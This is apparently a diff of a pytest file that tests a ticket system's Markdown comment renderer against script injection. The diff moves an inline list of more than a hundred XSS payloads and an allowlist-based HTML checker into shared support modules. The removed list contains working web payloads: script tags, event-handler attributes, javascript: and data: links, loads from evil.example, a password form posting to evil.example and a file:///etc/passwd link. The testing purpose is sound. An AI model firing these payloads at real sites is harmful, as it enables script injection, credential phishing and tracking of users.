@@ -2,18 +2,16 @@
 
 from __future__ import annotations
 
-import re
-from html.parser import HTMLParser
-
 import pytest
 
+from tests.support.hostile.comments import HOSTILE_COMMENTS, ID
+from tests.support.hostile.judge import problems
 from tests.support.patience import own_seconds
 from tickets.comments import rendering
 from tickets.comments.rendering import render
 
 pytestmark = pytest.mark.no_database
 
-ID = "0a1b2c3d-0000-4000-8000-00000000abcd"
 REL = 'rel="nofollow noopener noreferrer"'
 
 # A text and the HTML that is made of it.
@@ -83,173 +81,6 @@ def test_markdown_becomes_this(text: str, html: str) -> None:
 
 # --- Nothing runs, and nobody is asked
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/pixel.gif'>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<object data=data:text/html,x></object>",
-    "<embed src=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<meta http-equiv=refresh content=0;url=//evil.example>",
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><input name=password></form>",
-    "<body onload=alert(1)>",
-    "<a href=javascript:alert(1)>a</a>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
-    "<!--<img src='--><img src=x onerror=alert(1)>'>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php alert(1) ?>",
-    "<!DOCTYPE html><html onclick=alert(1)>",
-    "a <b onmouseover=alert(1)>b</b>",
-    "[a](javascript:alert(1))",
-    "[a](JaVaScRiPt:alert(1))",
-    "[a]( javascript:alert(1))",
-    "[a](<javascript:alert(1)>)",
-    "[a](java\tscript:alert(1))",
-    "[a](java&#10;script:alert(1))",
-    "[a](&#106;avascript:alert(1))",
-    "[a](&#x6A&#x61;vascript:alert(1))",
-    "[a](java\\script:alert(1))",
-    "[a](\x01javascript:alert(1))",
-    "[a](vbscript:msgbox(1))",
-    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[a](data:image/svg+xml;base64,PHN2Zz4=)",
-    "[a](file:///etc/passwd)",
-    "[a](ftp://evil.example)",
-    "[a](blob:https://evil.example/x)",
-    "[a](about:blank)",
-    "[a](//evil.example)",
-    "[a](/\\evil.example)",
-    "[a](\\\\evil.example)",
-    "[a](https:evil.example)",
-    "[a](https:///evil.example)",
-    "[a](https:\\\\evil.example)",
-    "[a](/desk/logout/)",
-    "[a](/desk/tickets/TKT-2026-000123/delete/)",
-    "[a](/desk/tickets/../logout/)",
-    "[a](?next=x)",
-    "[a](#top)",
-    "[a](https://a.example 'onclick=alert(1)')",
-    '[a](https://a.example "\\" onclick=alert(1) x=\\"")',
-    '[a](https://a.example/"onclick="alert(1))',
-    "[a](https://a.example/'><script>alert(1)</script>)",
-    "[a][x]\n\n[x]: javascript:alert(1)",
-    "[a][x]\n\n[x]: data:text/html,x",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "<https://a.example/\"onmouseover=alert(1)>",
-    "<a@b.example?body=x&bcc=evil@example.com>",
-    "![a](javascript:alert(1))",
-    "![a](data:image/png;base64,iVBORw0KGgo=)",
-    "![a](//evil.example/pixel.gif)",
-    "![a](/static/icon.svg)",
-    "![a](/desk/logout/)",
-    "![a](attachment:../../desk/logout/)",
-    f"![a](attachment:{ID}/../../desk/logout/)",
-    f"![a](attachment:{ID}?x=1)",
-    f"![a](attachment:{ID}#x)",
-    f"![a](attachment://{ID})",
-    f"![\"onerror=\"alert(1)](attachment:{ID})",
-    f"![a](attachment:{ID} 'onerror=alert(1)')",
-    "![a](https://evil.example/pixel.gif)",
-    "![![a](https://evil.example/1.gif)](https://evil.example/2.gif)",
-    "[![a](https://evil.example/1.gif)](javascript:alert(1))",
-    f"[![a](attachment:{ID})](javascript:alert(1))",
-    "```html\n<script>alert(1)</script>\n```",
-    "```\"onclick=\"alert(1)\n```",
-    "``` <script>\nx\n```",
-    "    <script>alert(1)</script>",
-    "`<script>alert(1)</script>`",
-    "a|<script>\n-|-\n<img src=x onerror=alert(1)>|b",
-    "- [x] <script>alert(1)</script>",
-    "# <script>alert(1)</script>",
-    "> <script>alert(1)</script>",
-    "*<script>alert(1)*</script>",
-    "\\<script>alert(1)\\</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "＜script＞alert(1)＜/script＞",
-    "\u202e<script>alert(1)</script>\u202c",
-    "[\u202eknab ruoy](https://evil.example)",
-    "[a](https://\u202eelpmaxe.live)",
-    "\x00<script>alert(1)</script>",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "TKT-2026-000123<script>alert(1)</script>",
-    "TKT-2026-000123\"onclick=\"alert(1)",
-    "@<script>alert(1)</script>",
-    "<xss style=xss:expression(alert(1))>",
-    "<p style=background:url(//evil.example)>",
-    "{{7*7}} {% load x %} ${7*7} <%= 7*7 %>",
-    "a|b\n:-:|-:\nx|y",
-]  # fmt: skip
-# The elements that may be there, each with its attributes.
-ATTRIBUTES = {
-    name: set(attributes.split())
-    for names, attributes in [
-        ("p h3 h4 h5 h6 li", "dir"),
-        ("br hr strong em s code blockquote ul table thead tbody tr", ""),
-        ("th td", "dir class"),
-        ("ol", "start"),
-        ("pre", "dir tabindex"),
-        ("a", "href rel"),
-        ("img", "src alt"),
-    ]
-    for name in names.split()
-}
-VALUES = {
-    "dir": "auto|ltr",
-    "class": "center|right",
-    "start": "[0-9]+",
-    "tabindex": "0",
-    "rel": "nofollow noopener noreferrer",
-    "href": r"https?://[^/?#\\].*|mailto:[^?].*|/desk/tickets/TKT-[0-9]{4}-[0-9]{6,9}/",
-    "src": "/attachments/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/preview",
-    "alt": "(?s).*",
-}
-
-
-class Judge(HTMLParser):
-    """Notes all that is no plain text in elements that do nothing."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.problems: list[str] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        for name, value in attrs:
-            if name not in ATTRIBUTES.get(tag, ()) or not re.fullmatch(VALUES[name], value or ""):
-                self.problems.append(f"{tag} {name}={value}")
-        if tag not in ATTRIBUTES or (tag == "a" and "rel" not in dict(attrs)):
-            self.problems.append(tag)
-
-    def handle_comment(self, data: str) -> None:
-        self.problems.append(data)
-
-    def handle_decl(self, decl: str) -> None:
-        self.problems.append(decl)
-
-    def unknown_decl(self, data: str) -> None:
-        self.problems.append(data)
-
-    def handle_pi(self, data: str) -> None:
-        self.problems.append(data)
-
-
-def problems(html: str) -> list[str]:
-    judge = Judge()
-    judge.feed(html)
-    judge.close()
-    return judge.problems
-
 
 def test_the_judge_finds_what_is_not_allowed() -> None:
     bad = [
@@ -260,11 +91,11 @@ def test_the_judge_finds_what_is_not_allowed() -> None:
     assert [html for _text, html in CASES if problems(html)] == []
 
 
-def test_there_are_more_than_a_hundred_hostile_texts() -> None:
-    assert len(set(HOSTILE)) == len(HOSTILE) > 100
+def test_there_are_more_than_150_hostile_texts() -> None:
+    assert len(set(HOSTILE_COMMENTS)) == len(HOSTILE_COMMENTS) > 150
 
 
-@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+@pytest.mark.parametrize("text", HOSTILE_COMMENTS, ids=range(len(HOSTILE_COMMENTS)))
 def test_nothing_runs_and_nobody_is_asked(text: str) -> None:
     html = render(text).html
     assert problems(html) == []
@@ -335,5 +166,5 @@ def test_what_people_write_is_no_matter_of_time(text: str) -> None:
 
 def test_a_fault_of_the_parser_lets_nothing_through(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(rendering._PARSER, "render", lambda text, env: text)
-    for text in HOSTILE:
+    for text in HOSTILE_COMMENTS:
         assert problems(render(text).html) == []
